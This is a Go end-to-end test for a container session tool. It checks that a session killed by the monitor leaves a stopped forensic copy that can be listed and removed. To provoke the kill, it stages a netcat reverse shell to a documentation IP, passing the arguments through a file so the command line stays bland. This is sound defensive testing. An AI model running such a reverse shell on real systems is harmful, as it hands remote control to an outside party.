//go:build e2e

package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/code-on-incus/coi/test/internal/house"
)

// Watch §14: monitoring.forensics_on_kill. Of a session that the monitor kills a
// stopped copy stays, with its files and nothing that works; the session itself
// is deleted and told of as killed.
func TestForensicCopy(t *testing.T) {
	configure(t, "[monitoring]\nforensics_on_kill = true\n")
	dir := workspace(t)
	// The tool of the attack gets its words from a file: the line that is run tells nothing yet.
	if err := os.WriteFile(dir+"/args", []byte("-e /bin/sh 198.51.100.7 4242\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := do(t, dir, "run", "--", "bash", "-c", "echo trace > ~/left; sync; sleep 1; xargs nc < args; sleep 60")
	if r.Code != 137 || !strings.Contains(r.Stderr, "the monitor ends ") || strings.Contains(r.Stderr, "coi unfreeze") {
		t.Fatalf("%s\nwant a killed session that says so", r)
	}
	var copies []struct {
		Name, Status string
		Devices      map[string]map[string]string `json:"expanded_devices"`
		Config       map[string]string
	}
	err := house.Eventually(t.Context(), time.Minute, func() error {
		out, err := exec.Command("incus", "list", "--format", "json", the.Prefix).Output()
		if err != nil {
			return err
		}
		copies = nil // maps of an older answer would be added to
		if err := json.Unmarshal(out, &copies); err != nil {
			return err
		}
		if len(copies) != 1 || !strings.Contains(copies[0].Name, "-forensics-") || len(copies[0].Devices) != 1 {
			return fmt.Errorf("%+v; want one copy and no session", copies)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	c := copies[0]
	t.Cleanup(func() { _ = exec.Command("incus", "delete", "-f", c.Name).Run() })
	if c.Status != "Stopped" || c.Devices["root"]["path"] != "/" || c.Config["boot.autostart"] != "false" {
		t.Errorf("the copy is %+v; want it stopped, with its disk alone", c)
	}
	out, err := exec.Command("incus", "file", "pull", c.Name+"/home/code/left", "-").Output()
	if err != nil || string(out) != "trace\n" {
		t.Errorf("a file in the copy = %q, %v; want what the session left", out, err)
	}
	sessions, study, told := strings.Cut(must(t, dir, "list", "--all").Stdout, "Copies for study")
	if strings.Contains(sessions, c.Name) || !strings.Contains(sessions, "killed by monitor") || !told || !strings.Contains(study, c.Name) {
		t.Errorf("list --all: %s%s\nwant the killed session, and the copy, but not among the sessions", sessions, study)
	}
	if r := must(t, dir, "clean", "--force"); strings.Contains(r.Stdout, c.Name) {
		t.Errorf("%s\nwant evidence removed only when that is asked for", r)
	}
	if r := must(t, dir, "clean", "--forensics", "--dry-run"); !strings.Contains(r.Stdout, "copies for study: "+c.Name) {
		t.Errorf("%s\nwant the copy listed", r)
	}
	must(t, dir, "clean", "--forensics", "--force")
	if err := exec.Command("incus", "info", c.Name).Run(); err == nil {
		t.Errorf("%s is still there after coi clean --forensics", c.Name)
	}
}
